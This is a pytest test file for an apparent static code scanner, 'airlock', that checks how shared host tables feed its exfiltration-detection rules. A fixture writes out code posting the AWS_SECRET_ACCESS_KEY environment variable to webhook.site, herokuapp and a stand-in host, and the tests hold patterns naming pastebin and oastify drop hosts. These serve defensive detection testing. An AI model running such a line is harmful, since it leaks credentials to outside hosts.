"""Named tables: one list of host patterns that YAML rules and engine checks share."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from airlock.analyzer.ruleset import RuleSetError, load_ruleset
from airlock.analyzer.scan import scan
from airlock.analyzer.tables import TableError, expand_tables, read_tables
from airlock.rules import RULES_DIR

SECRET_TO = (
    "import os, requests\n"
    'requests.post("https://{host}/collect", data=os.environ["AWS_SECRET_ACCESS_KEY"])\n'
)


def write(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "overlay.yaml"
    path.write_text(text)
    return path


def ids(code: str, ruleset: object = "default") -> set[str]:
    return {f.rule_id for f in scan(code, ruleset=ruleset).findings}  # type: ignore[arg-type]


def test_shipped_host_lists_live_only_in_the_tables() -> None:
    """No rule file or engine module spells a drop host outside `tables:`."""
    text = (RULES_DIR / "default.yaml").read_text()
    rules_part = text.split("\npolicy:", 1)[1]
    for line in rules_part.splitlines():
        if line.strip().startswith(("pattern:", "matches:")):
            assert "oastify" not in line and "pastebin" not in line, line
    engine = Path(__file__).resolve().parents[2] / "analyzer"
    for path in engine.glob("*.py"):
        assert "pastebin" not in path.read_text(), path


def test_rules_see_the_table_expanded() -> None:
    rs = load_ruleset("default")
    assert {"drop_hosts", "oob_hosts", "free_hosting"} <= set(rs.tables)
    pattern = rs.rule("AIR-NET-013").match["literal"]["pattern"]
    assert "{{" not in pattern and re.search(pattern, "https://pastebin.com/raw/x")
    oob = rs.rule("AIR-NET-017").match["literal"]["pattern"]
    assert re.search(oob, "http://abc.oastify.com/x")
    assert not re.search(oob, "http://notoastify.company/x")  # the anchor still holds


def test_drop_flow_reads_the_tables_and_a_plain_host_is_not_a_drop() -> None:
    assert "AIR-FLOW-004" in ids(SECRET_TO.format(host="x.herokuapp.com"))
    assert "AIR-FLOW-004" in ids(SECRET_TO.format(host="webhook.site"))
    assert "AIR-FLOW-004" not in ids(SECRET_TO.format(host="api.example.com"))


def test_an_overlay_adds_a_host_for_rules_and_checks(tmp_path: Path) -> None:
    overlay = write(
        tmp_path,
        f"""
name: mine
extends: {RULES_DIR / "default.yaml"}
tables:
  free_hosting: ['drops\\.example\\.net']
rules:
  - id: MINE-001
    title: our drop host
    category: network
    severity: high
    confidence: high
    match:
      literal:
        pattern: '{{{{free_hosting}}}}'
""",
    )
    rs = load_ruleset(overlay)
    code = SECRET_TO.format(host="drops.example.net")
    found = ids(code, rs)
    assert {"AIR-FLOW-004", "MINE-001"} <= found
    assert "AIR-FLOW-004" not in ids(code)  # the shipped set does not know the host


@pytest.mark.parametrize(
    ("tables", "rule_regex", "message"),
    [
        ("{}", "'{{nope}}'", "unknown table"),
        ("{t: ['(a']}", "'x'", "bad regular expression"),
        ("{t: ['(a+)+$']}", "'x'", "backtrack"),
        ("{t: []}", "'x'", "non-empty list"),
        ("{Bad-Name: ['a']}", "'x'", "not a table name"),
        ("[a]", "'x'", "mapping"),
    ],
)
def test_bad_tables_are_one_line_errors(
    tmp_path: Path, tables: str, rule_regex: str, message: str
) -> None:
    path = write(
        tmp_path,
        f"""
name: bad
tables: {tables}
rules:
  - id: BAD-001
    title: t
    category: network
    severity: low
    confidence: low
    match:
      literal:
        pattern: {rule_regex}
""",
    )
    with pytest.raises(RuleSetError, match=message) as err:
        load_ruleset(path)
    assert "\n" not in str(err.value) and str(path) in str(err.value)


ALT = st.text(alphabet="abcxyz.", min_size=1, max_size=8)


@given(st.dictionaries(st.sampled_from(["a", "b_1", "hosts"]), st.lists(ALT, min_size=1)))
def test_expansion_matches_exactly_the_alternatives(tables: dict[str, list[str]]) -> None:
    parsed = read_tables({k: [re.escape(a) for a in v] for k, v in tables.items()})
    for name, alts in tables.items():
        match = expand_tables({"literal": {"pattern": f"^{{{{{name}}}}}$"}}, parsed)
        rx = re.compile(match["literal"]["pattern"])
        assert all(rx.match(a) for a in alts)
        assert not rx.match("Q" + alts[0])
    with pytest.raises(TableError):
        expand_tables({"call": {"args": [{"matches": "{{missing_table}}"}]}}, parsed)
